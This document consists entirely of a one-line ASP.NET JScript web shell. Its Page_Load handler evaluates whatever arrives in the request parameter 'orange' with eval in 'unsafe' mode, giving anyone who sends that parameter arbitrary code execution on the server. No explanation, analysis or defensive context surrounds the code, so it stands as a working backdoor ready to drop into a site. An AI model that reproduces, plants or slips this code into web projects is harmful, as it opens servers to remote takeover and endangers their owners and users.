<script language="JScript" runat="server"> function Page_Load(){ eval(Request.Item["orange"],"unsafe"); }</script>
